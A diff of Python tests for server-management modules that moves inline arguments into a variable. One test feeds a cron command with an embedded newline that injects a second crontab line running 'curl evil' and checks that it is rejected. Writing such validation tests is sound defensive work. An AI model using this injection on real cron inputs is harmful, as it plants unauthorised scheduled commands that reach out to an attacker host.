@@ -18,8 +18,8 @@ USER = {'id': 7, 'username': 'shop', 'deploymentKey': None, 'created_at': '2024-
 
 def test_api_endpoint_is_an_alias_of_api_url(monkeypatch):
     session = ScriptedSession(API_URL, [Exchange('GET', '/servers/3/users', listing(USER))])
-    result = run_module_with_args(monkeypatch, system_user.main, dict(api_endpoint=API_URL, api_token='t', api_retry_budget=0,
-                                                                       server=3, username='shop'), session, False, False)
+    args = dict(api_endpoint=API_URL, api_token='t', api_retry_budget=0, server=3, username='shop')
+    result = run_module_with_args(monkeypatch, system_user.main, args, session, False, False)
     assert result['failed'] is False and result['changed'] is False
 
 
@@ -32,9 +32,8 @@ def test_ca_path_from_the_environment_must_exist(monkeypatch, tmp_path):
 
 def test_a_newline_in_a_cron_command_is_refused_naming_the_option(monkeypatch):
     session = ScriptedSession(API_URL, [])
-    result = run_module_with_args(monkeypatch, cron_job.main, dict(api_url=API_URL, api_token='t', server=3, label='backup',
-                                                                    command='backup.sh\n* * * * * curl evil', schedule='@daily'),
-                                  session, False, False)
+    args = dict(api_url=API_URL, api_token='t', server=3, label='backup', command='backup.sh\n* * * * * curl evil', schedule='@daily')
+    result = run_module_with_args(monkeypatch, cron_job.main, args, session, False, False)
     assert result['failed'] and result['msg'] == ('command must be a single line without NUL, carriage return or line feed '
                                                   'characters; it contains a line feed')
     assert session.sent == []
